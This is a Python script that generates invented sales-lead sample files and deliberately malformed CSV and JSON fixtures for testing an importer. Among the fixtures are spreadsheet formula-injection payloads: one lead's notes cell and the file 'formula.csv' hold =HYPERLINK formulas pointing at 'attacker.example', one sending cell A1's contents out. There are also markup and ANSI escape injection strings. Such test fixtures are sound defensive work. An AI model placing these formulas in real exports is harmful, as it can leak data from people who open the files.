"""Write samples/: five hundred invented leads, with the mess that real forms and exports have, and small files in other formats.

The same bytes come out every time: one seeded generator, no clock. Nobody in here exists: domains end in ``.example`` (or are
mailbox providers, with local parts made up by number), telephone numbers come from the ranges kept free for fiction.

Run it from anywhere: ``python scripts/make_samples.py``. ``--check`` writes nothing and fails where a file differs.
"""

from __future__ import annotations

import csv
import io
import json
import random
import sys
import unicodedata
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TypeVar

SAMPLES = Path(__file__).resolve().parent.parent / "samples"
COUNT = 500
FIRST_ID = 1001
LAST_ARRIVAL = datetime(2026, 11, 23, 14, 55, tzinfo=UTC)  # minutes before the instant that the demo routes at

COLUMNS = [
    "lead_id",
    "created_at",
    "name",
    "title",
    "company",
    "email",
    "phone",
    "country",
    "state",
    "postal_code",
    "industry",
    "language",
    "source",
    "employees",
    "deal_value",
    "products",
    "use_case",
    "intent",
    "campaign",
    "account_owner",
    "opted_out",
    "utm_campaign",
    "notes",
]

Lead = dict[str, str]
T = TypeVar("T")


@dataclass(frozen=True)
class Place:
    """Where leads come from: how often, how people spell it, and what comes with it."""

    share: int
    spellings: Sequence[str]
    names: Sequence[str]
    states: Sequence[str] = ()
    postal: Sequence[str] = ()
    languages: Sequence[str] = ("en", "English")
    phone: str = ""


US_STATES = [
    "CA",
    "California",
    "ca",
    "NY",
    "TX",
    "Texas",
    "tx",
    "FL",
    "IL",
    "WA",
    "Colorado",
    "CO",
    "MA",
    "Massachusetts",
    "GA",
    "OH",
    "AZ",
    "Oregon",
    "OR",
    "MN",
    "PA",
    "NC",
    "NJ",
    "VA",
    "UT",
    "Nevada",
    "MO",
    "TN",
    "New York",
    "Calif.",
]
ANGLO = ["Olivia Hart", "James Cole", "Maya Brooks", "Ethan Ward", "Grace Kim", "Noah Bell", "Zoe Chen", "Liam O'Neil", "Ava Singh"]
LATIN = ["Ana Sol", "Mateo Ríos", "Lucía Peña", "João Prado", "Inês Duarte", "Camila Núñez", "Rafael Souza", "Sofía Ibáñez"]
GERMAN = ["Jürgen Weiß", "Lena Krüger", "Matthias Köhler", "Sabine Groß", "Urs Zürcher", "Heidi Bär"]
LATIN_EUROPE = ["Chloé Moreau", "Luc Girard", "Giulia Conti", "Marco Esposito", "Íñigo Sáez", "Marta Gil"]
NORDIC = ["Åsa Lindgren", "Søren Dahl", "Bjørn Aas", "Aino Mäkelä", "Freja Holm"]
ASIAN = ["佐藤 美咲", "Hiroshi Abe", "陈 伟", "Mei Lin Ong", "Ravi Menon", "김 지우"]

PLACES: dict[str, Place] = {
    "us": Place(
        205,
        ["US", "USA", "United States", "us", "U.S.", "United States of America"],
        ANGLO,
        US_STATES,
        (),
        ("en", "English", "en-US", "", "es"),
        "+1 202-555-01{n:02d}",
    ),
    "ca": Place(
        26,
        ["Canada", "CA", "canada", "CAN"],
        ANGLO + LATIN_EUROPE[:2],
        ["ON", "Ontario", "QC", "Québec", "BC", "AB"],
        ["M5V 2T6", "H2Y 1C6"],
        ("en", "fr", "Français", "English"),
        "+1 416-555-01{n:02d}",
    ),
    "mx": Place(20, ["Mexico", "México", "MX"], LATIN, (), (), ("es", "Español", "Spanish")),
    "br": Place(20, ["Brasil", "Brazil", "BR"], LATIN, ["São Paulo", "SP", "RJ"], (), ("pt", "Português", "pt-BR")),
    "latam": Place(8, ["Argentina", "Chile", "CO", "Perú"], LATIN, (), (), ("es", "Spanish")),
    "de": Place(
        40,
        ["Germany", "Deutschland", "DE", "germany", "GER"],
        GERMAN,
        (),
        ["10115", "01067", "20095", "34117", "50667", "70173", "80331", "99084"],
        ("de", "German", "Deutsch", "en"),
        "+49 30 23125{n:03d}",
    ),
    "at": Place(8, ["Austria", "Österreich", "AT"], GERMAN, (), ["1010", "5020", "6020"], ("de", "Deutsch")),
    "ch": Place(14, ["Switzerland", "Schweiz", "CH", "Suisse"], GERMAN, (), ["8001", "3011", "1201"], ("de", "de-CH", "fr", "en")),
    "gb": Place(
        34,
        ["UK", "United Kingdom", "GB", "Great Britain", "England"],
        ANGLO,
        (),
        ["EC1A 1BB", "SW1A 1AA", "M1 1AE"],
        ("en", "en-GB", "English"),
        "+44 20 7946 0{n:03d}",
    ),
    "ie": Place(6, ["Ireland", "IE"], ANGLO, (), (), ("en",)),
    "fr": Place(18, ["France", "FR", "france"], LATIN_EUROPE, (), ["75001", "69001"], ("fr", "French", "Français")),
    "south": Place(18, ["Italy", "Italia", "Spain", "España", "PT", "Belgium"], LATIN_EUROPE, (), (), ("it", "es", "en", "Italian")),
    "nl": Place(9, ["Netherlands", "NL", "Holland"], ANGLO, (), ["1012 AB"], ("en", "nl")),
    "nordics": Place(
        24, ["Sweden", "Sverige", "NO", "Norway", "Norge", "Denmark", "DK", "Finland"], NORDIC, (), (), ("sv", "no", "Danish", "en", "fi")
    ),
    "jp": Place(14, ["Japan", "日本", "JP"], ASIAN, ["東京"], ["100-0001"], ("ja", "Japanese", "日本語")),
    "apac": Place(
        18, ["Singapore", "SG", "Australia", "AU", "India", "Korea", "New Zealand"], ASIAN, (), (), ("en", "zh", "English", "ko")
    ),
    "world": Place(6, ["South Africa", "ZA", "Kenya", "UAE", "Egypt"], ANGLO, (), (), ("en", "ar")),
    "unknown": Place(12, ["", "N/A", "null", "-", "Select", "Wonderland"], ANGLO, (), (), ("en", "", "null")),
}

WORDS = [
    "Alder",
    "Birch",
    "Cobalt",
    "Delta",
    "Ember",
    "Falcon",
    "Granite",
    "Harbor",
    "Iris",
    "Juniper",
    "Kestrel",
    "Lumen",
    "Maple",
    "Nimbus",
    "Onyx",
    "Pioneer",
    "Quarry",
    "Raven",
    "Summit",
    "Tundra",
]
KINDS = {
    "fintech": ["Pay", "Capital", "Ledger"],
    "insurance": ["Insurance", "Mutual"],
    "banking": ["Bank"],
    "healthcare": ["Clinics", "Health"],
    "retail": ["Retail", "Stores"],
    "manufacturing": ["Werke", "Industries", "Tools"],
    "energy": ["Energy", "Power"],
    "software": ["Labs", "Software", "Systems"],
    "education": ["College", "Academy"],
}
INDUSTRIES = [
    ("fintech", 16),
    ("insurance", 9),
    ("banking", 4),
    ("healthcare", 14),
    ("retail", 13),
    ("manufacturing", 14),
    ("energy", 7),
    ("software", 15),
    ("education", 6),
    ("", 2),
]
SOURCES = [
    ("demo_request", 26),
    ("pricing_page", 15),
    ("webinar", 14),
    ("content", 14),
    ("newsletter", 6),
    ("chat", 8),
    ("callback", 4),
    ("partner", 5),
    ("reseller", 2),
    ("trade_show", 6),
]
SIZES = [(None, 9), (8, 12), (25, 14), (60, 13), (120, 12), (300, 10), (700, 8), (1200, 8), (2400, 7), (5000, 5), (18000, 2)]
VALUES = [(None, 30), (3000, 14), (8000, 14), (15000, 12), (45000, 12), (60000, 8), (120000, 6), (300000, 3), (1200000, 1)]
PRODUCTS = [
    ("crm", 34),
    ("billing", 14),
    ("crm;billing", 18),
    ("analytics", 14),
    ("crm; Analytics", 10),
    ("billing;analytics;crm", 6),
    ("", 4),
]
USE_CASES = ["sales pipeline", "replace spreadsheets", "invoicing", "field service", "reporting", "", ""]
HEALTH_USE_CASES = ["patient records", "Clinical trials", "appointments", "patient intake"]
TITLES = ["VP Sales", "Head of Finance", "CIO", "Operations Manager", "Analyst", "Founder", "Student", "CEO", ""]
OWNERS = [
    "sarah",
    "diego.fernandez@acme.example",
    "Priya Raman",
    "tom",
    "ANKE",
    "oliver",
    "paula",
    "carla.reyes@acme.example",
    "greg.former@acme.example",
    "Unknown User",
]
NAMED = [
    "banco-andino.example",
    "hartwell-insurance.example",
    "lakeside-health.example",
    "northern-rail.example",
    "orchard-retail.example",
    "rheinwerk.example",
]
CAMPAIGNS = ["brand-q4", "retarget_b", "spring_sale", "", "", ""]
NOTES = [
    "",
    "",
    "",
    "",
    "wants a call after lunch",
    "compared us with two others, price matters",
    'said "maybe in January"',
    "met at the fair",
]


class Dice:
    """Seeded choices."""

    def __init__(self, seed: int) -> None:
        """Start at ``seed``."""
        self._random = random.Random(seed)  # noqa: S311 - invented leads, not secrets

    def one(self, of: Sequence[T]) -> T:
        """One of a sequence."""
        return of[int(self._random.random() * len(of))]

    def weighted(self, of: Sequence[tuple[T, int]]) -> T:
        """One of ``(value, share)``."""
        at = self._random.random() * sum(share for _, share in of)
        for value, share in of:
            at -= share
            if at < 0:
                return value
        return of[-1][0]

    def chance(self, percent: float) -> bool:
        """True that often."""
        return self._random.random() * 100 < percent


def _slug(text: str) -> str:
    plain = unicodedata.normalize("NFKD", text.lower().replace("ø", "o").replace("ß", "ss"))
    kept = "".join(letter if letter.isascii() and letter.isalnum() else "-" for letter in plain if not unicodedata.combining(letter))
    return "-".join(part for part in kept.split("-") if part) or "sample"


def _count(dice: Dice, number: int) -> str:
    """A head count as people write it."""
    ways = [str(number), str(number), f"{number:,}", f" {number} "]
    if number >= 1000 and number % 100 == 0:
        ways.append(f"{number / 1000:g}k")
    return dice.one(ways)


def _money(dice: Dice, number: int) -> str:
    """An amount as people write it."""
    ways = [str(number), f"{number:,}", f"${number:,}", f"{number}.00"]
    if number >= 1000:
        ways += [f"{number / 1000:g}k", f"\u20ac{number:,}"]
    return dice.one(ways)


def _arrival(dice: Dice, at: datetime) -> str:
    """An instant as forms, exports and people write it."""
    ways = [at.strftime("%Y-%m-%dT%H:%M:%SZ")] * 6 + [at.strftime("%Y-%m-%d %H:%M"), at.strftime("%Y-%m-%d")]
    return dice.one(ways)


def _language(dice: Dice, place: Place) -> str:
    spoken = dice.one(place.languages)
    return spoken.upper() if dice.chance(6) else spoken


def _company(dice: Dice, industry: str) -> str:
    kind = dice.one(KINDS.get(industry, ["Group", "Partners"]))
    ending = dice.one(["", "", " Inc.", " GmbH", " Ltd", ", LLC"])
    return f"{dice.one(WORDS)} {kind}{ending}"


def _email(dice: Dice, number: int, name: str, company: str) -> str:
    if dice.chance(9):
        return f"sample.lead.{number}@{dice.one(['gmail.com', 'yahoo.com', 'gmx.de', 'outlook.com'])}"
    if dice.chance(1.4):
        return f"sample.lead.{number}@{dice.one(['mailinator.com', 'yopmail.com'])}"
    if dice.chance(3):
        return dice.one(["", "N/A"])
    written = f"{_slug(name).replace('-', '.')}@{_slug(company)}.example"
    return written.upper() if dice.chance(4) else written


def _lead(dice: Dice, position: int) -> Lead:
    """One ordinary lead, by its position from 0."""
    number = FIRST_ID + position
    place = PLACES[dice.weighted([(name, place.share) for name, place in PLACES.items()])]
    industry = dice.weighted(INDUSTRIES)
    name, company = dice.one(place.names), _company(dice, industry)
    size, value, source = dice.weighted(SIZES), dice.weighted(VALUES), dice.weighted(SOURCES)
    arrived = LAST_ARRIVAL - timedelta(minutes=int((COUNT - position) * 47 + dice.one(range(40))))
    email = _email(dice, number, name, company)
    return {
        "lead_id": f"L-{number}",
        "created_at": _arrival(dice, arrived),
        "name": name,
        "title": dice.one(TITLES),
        "company": company,
        "email": email,
        "phone": place.phone.format(n=position % 100) if place.phone and (not email or dice.chance(70)) else dice.one(["", "", "-"]),
        "country": dice.one(place.spellings),
        "state": dice.one(place.states) if place.states and dice.chance(85) else "",
        "postal_code": dice.one(place.postal) if place.postal and dice.chance(80) else "",
        "industry": dice.one([industry, industry, industry.title()]),
        "language": _language(dice, place),
        "source": dice.one([source, source, source.upper(), f"{source} "]) if dice.chance(30) else source,
        "employees": dice.one(["", "N/A", "null"]) if size is None else _count(dice, size),
        "deal_value": dice.one(["", "-"]) if value is None else _money(dice, value),
        "products": dice.weighted(PRODUCTS),
        "use_case": dice.one(HEALTH_USE_CASES if industry == "healthcare" else USE_CASES),
        "intent": str(dice.one(range(21))) if dice.chance(25) else "",
        "campaign": "year-end" if dice.chance(3) else "",
        "account_owner": dice.one(OWNERS) if dice.chance(6) else "",
        "opted_out": dice.one(["true", "Yes", "1"]) if dice.chance(0.8) else dice.one(["", "", "false", "no"]),
        "utm_campaign": dice.one(CAMPAIGNS),
        "notes": dice.one(NOTES),
    }


ODD: Mapping[int, Lead] = {
    # Position: what is odd about it. Kept in one place, so that a reader finds each kind of mess.
    9: {"employees": "lots"},
    23: {"employees": "1k-5k"},
    41: {
        # L-1042, the lead that the documentation explains.
        "created_at": "2026-11-23T14:12:09Z",
        "name": "Ana Sol",
        "title": "CIO",
        "company": "Banco Sol",
        "email": "ana.sol@bancosol.example",
        "phone": "",
        "country": "México",
        "state": "",
        "postal_code": "",
        "industry": "Fintech",
        "language": "Español",
        "source": "demo_request",
        "employees": "2,400",
        "deal_value": "$45,000",
        "products": "crm;billing",
        "use_case": "replace spreadsheets",
        "intent": "12",
        "campaign": "",
        "account_owner": "",
        "opted_out": "false",
        "utm_campaign": "brand-q4",
        "notes": "",
    },
    57: {"created_at": "yesterday"},
    66: {"notes": "first line of a note\nsecond line, with a comma"},
    72: {"name": "[red]x[/x]"},
    80: {"notes": '=HYPERLINK("https://attacker.example/?"&A1,"open")'},
    88: {"company": "Zürich Rück & Söhne", "country": "Schweiz", "postal_code": "8001", "language": "de-CH"},
    95: {"state": "São Paulo", "country": "Brasil", "language": "Português", "company": "Padaria São João"},
    101: {
        "state": "東京",
        "country": "日本",
        "language": "日本語",
        "company": "東京精密",
        "source": "demo_request",
        "employees": "4,200",
        "deal_value": "90k",
    },
    117: {"employees": "~50"},
    126: {"deal_value": "TBD"},
    133: {"employees": "lots", "deal_value": "a few"},
    140: {"email": "not an address", "phone": ""},
    152: {"country": "Atlantis"},
    160: {"email": "", "phone": "", "company": "Wayfarer Inns"},
    175: {"company": "test", "email": "someone@acme.example"},
    176: {"company": "asdf ghjk"},
    181: {"company": 'Bright "& Sons", Inc.'},
    190: {"employees": "10-49"},
    204: {"created_at": "last Tuesday"},
    215: {"email": "sample.lead.1216@mailinator.com"},
    221: {"intent": "high"},
    233: {"opted_out": "true"},
    240: {"employees": "1k-5k"},
    255: {"opted_out": "maybe"},
    266: {"country": "Zimbabwe"},
    272: {"employees": "١٢٠"},  # Arabic-Indic digits: not read
    288: {"deal_value": "EUR 30.000,00"},
    301: {"employees": "12.0"},
    317: {"employees": "lots"},
    330: {"email": " Spaced.Out@Juniper-Tools.example "},
    345: {"phone": "call me"},
    359: {"employees": "1,20"},
    372: {"created_at": "2026-11-22T18:30:00+01:00"},
    388: {"email": "no-phone-no-name", "phone": "N/A"},
    402: {"opted_out": "Y"},
    430: {"employees": "-5"},
    444: {"company": "  Cobalt   Labs  ", "country": "  usa "},
    # Two without an id, four that repeat one.
    150: {"lead_id": ""},
    350: {"lead_id": "N/A"},
    120: {"lead_id": "L-1042", "company": "Banco Sol S.A."},
    260: {"lead_id": " L-1100 "},
    399: {"lead_id": "L-1300"},
    480: {"lead_id": "L-1300"},
}

BEFORE_NAMED = 60
NAMED_EVERY = 55


def leads() -> list[Lead]:
    """The leads of ``leads.csv``, in its order."""
    dice = Dice(20261123)
    made = []
    for position in range(COUNT):
        lead = _lead(dice, position)
        if position % NAMED_EVERY == BEFORE_NAMED % NAMED_EVERY and position > BEFORE_NAMED:
            domain = NAMED[position // NAMED_EVERY % len(NAMED)]
            lead |= {"email": f"buyer{position}@{domain}", "company": domain.partition(".")[0].replace("-", " ").title()}
        made.append(lead | ODD.get(position, {}))
    return made


def _csv(rows: Sequence[Lead], columns: Sequence[str], *, delimiter: str = ",", end: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=end)
    writer.writerow(columns)
    writer.writerows([row[column] for column in columns] for row in rows)
    return out.getvalue()


def _typed(lead: Lead) -> dict[str, object]:
    """A lead as an application would send it: numbers, booleans, lists and nulls where they are plain."""
    out: dict[str, object] = {}
    for column, text in lead.items():
        bare = text.strip()
        if bare in {"", "N/A", "null", "-"}:
            out[column] = None
        elif column == "products":
            out[column] = [item.strip() for item in bare.split(";")]
        elif column in {"employees", "deal_value", "intent"} and bare.isascii() and bare.isdigit():
            out[column] = int(bare)
        elif column == "opted_out" and bare in {"true", "false"}:
            out[column] = bare == "true"
        else:
            out[column] = text
    return out


CRM_NAMES = {
    "lead_id": "Id",
    "created_at": "CreatedDate",
    "name": "Name",
    "company": "Company",
    "email": "Email",
    "phone": "Phone",
    "country": "Country",
    "state": "State",
    "postal_code": "PostalCode",
    "industry": "Industry",
    "language": "Language__c",
    "source": "LeadSource",
    "employees": "NumberOfEmployees",
    "deal_value": "Deal_Value__c",
    "account_owner": "Account_Owner__c",
}


def _crm_tree(rows: Sequence[Lead]) -> str:
    """The sObject tree that a CRM's export tool writes."""
    records = []
    for at, row in enumerate(rows, start=1):
        typed = _typed(row)
        record: dict[str, object] = {"attributes": {"type": "Lead", "referenceId": f"LeadRef{at}"}}
        record |= {theirs: typed[ours] for ours, theirs in CRM_NAMES.items()}
        records.append(record)
    return json.dumps({"records": records}, ensure_ascii=False, indent=2) + "\n"


SHORT = ["lead_id", "created_at", "name", "company", "email", "country", "industry", "language", "source", "employees", "deal_value"]


def files() -> dict[str, bytes]:
    """Every sample file, by its path below ``samples``."""
    made = leads()
    json_leads = [row for row in made[30:62] if row["lead_id"]][:30]
    european = [row for row in made if row["country"] in {"Deutschland", "Österreich", "Schweiz", "España", "France"}][:12]
    return {f"broken/{name}": content for name, content in broken().items()} | {
        "leads.csv": _csv(made, COLUMNS).encode(),
        "leads.json": (json.dumps([_typed(row) for row in json_leads], ensure_ascii=False, indent=1) + "\n").encode(),
        "leads.jsonl": "".join(json.dumps(_typed(row), ensure_ascii=False) + "\n" for row in json_leads).encode(),
        "sobject.json": _crm_tree(made[200:212]).encode(),
        "leads_semicolon_cp1252.csv": _csv(european, SHORT, delimiter=";", end="\r\n").encode("cp1252"),
        "leads_utf16.csv": _csv(made[88:96], SHORT, delimiter="\t", end="\r\n").encode("utf-16"),
    }


HEADER = "lead_id,created_at,company,email,country,industry,source,employees\n"
GOOD = "B-1,2026-11-20,Alder Labs,a@alder.example,US,software,demo_request,120\n"
ALSO_GOOD = "B-2,2026-11-21,Birch Tools,b@birch.example,DE,manufacturing,webinar,60\n"


def broken() -> dict[str, bytes]:
    """Files that are wrong in one way each; ``samples/broken/README.md`` says what happens to them."""
    text = {
        "surplus_cells.csv": HEADER + GOOD + "B-2,2026-11-21,Birch, Tools,b@birch.example,DE,manufacturing,webinar,60\n",
        "short_rows.csv": HEADER + GOOD + "B-2,2026-11-21,Birch Tools\n",
        "unclosed_quote.csv": HEADER + GOOD + 'B-2,2026-11-21,"Birch Tools,b@birch.example,DE,manufacturing,webinar,60\n' + "B-3,,,,,,,\n",
        "empty.csv": "",
        "blank_lines.csv": "\n\n" + HEADER + "\n" + GOOD + "\n",
        "header_only.csv": HEADER,
        "no_header.csv": GOOD + ALSO_GOOD,
        "duplicate_header.csv": HEADER.replace("source", "email") + GOOD,
        "ambiguous_header.csv": HEADER.replace("source", "company") + GOOD,
        "blank_header.csv": HEADER.replace("source", "") + GOOD,
        "missing_column.csv": "lead_id,company\nB-1,Alder Labs\n",
        "already_routed.csv": HEADER.replace("\n", ",assigned_to\n") + GOOD.replace("\n", ",sarah\n"),
        "no_ids.csv": HEADER + GOOD.replace("B-1", "") + ALSO_GOOD.replace("B-2", "N/A"),
        "same_ids.csv": HEADER + GOOD + GOOD.replace("Alder", "Other") + GOOD.replace("B-1", " B-1 "),
        "cells_that_do_not_parse.csv": HEADER + GOOD.replace("120", "lots") + ALSO_GOOD.replace("2026-11-21", "yesterday"),
        "formula.csv": HEADER + GOOD.replace("Alder Labs", '"=HYPERLINK(""https://attacker.example"")"'),
        "markup.csv": HEADER + GOOD.replace("Alder Labs", "[bold red]Alder[/bold red] \x1b[31mLabs"),
        "truncated.json": '[{"lead_id": "B-1", "company": "Alder Labs", "employees": 120}, {"lead_id": "B-2", "comp',
        "not_leads.json": '"just a text"\n',
        "not_objects.json": '[{"lead_id": "B-1", "company": "Alder Labs", "employees": 120}, 17]\n',
        "nested.json": '[{"lead_id": "B-1", "company": {"name": "Alder Labs"}, "employees": [["many"]]}]\n',
        "duplicate_keys.json": '[{"lead_id": "B-1", "company": "Alder Labs", "company": "Birch Tools", "employees": 120}]\n',
        "not_a_number.json": '[{"lead_id": "B-1", "company": "Alder Labs", "employees": NaN}]\n',
        "one_bad_line.jsonl": '{"lead_id": "B-1", "company": "Alder Labs", "employees": 120}\n{"lead_id": "B-2", oops}\n',
        "not_really.xlsx": HEADER + GOOD,
        "not_really.parquet": HEADER + GOOD,
    }
    return {name: content.encode() for name, content in text.items()} | {
        "binary.csv": bytes(range(256)) * 2,
        "nul_bytes.csv": (HEADER + GOOD.replace("Alder", "Al\0der")).encode(),
        "wrong_encoding.csv": (HEADER + GOOD.replace("Alder Labs", "Zürich Rück")).encode("cp1252"),
        "half_utf8.csv": (HEADER + GOOD.replace("Alder Labs", "Zürich Rück")).encode() + ALSO_GOOD.encode().replace(b"oo", b"\xff\xff"),
        "utf16_without_mark.csv": (HEADER + GOOD).encode("utf-16-le"),
        "truncated.parquet": b"PAR1\x15\x04\x15\x00",
    }


def main() -> int:
    """Write the files, or with ``--check`` name those that differ."""
    differing = []
    for name, content in files().items():
        path = SAMPLES / name
        if path.exists() and path.read_bytes() == content:
            continue
        differing.append(name)
        if "--check" not in sys.argv[1:]:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
    if "--check" not in sys.argv[1:]:
        print(f"{len(differing)} written, {len(files()) - len(differing)} as they were")
        return 0
    for name in differing:
        print(f"samples/{name} is not what scripts/make_samples.py writes", file=sys.stderr)
    return 1 if differing else 0


if __name__ == "__main__":
    sys.exit(main())
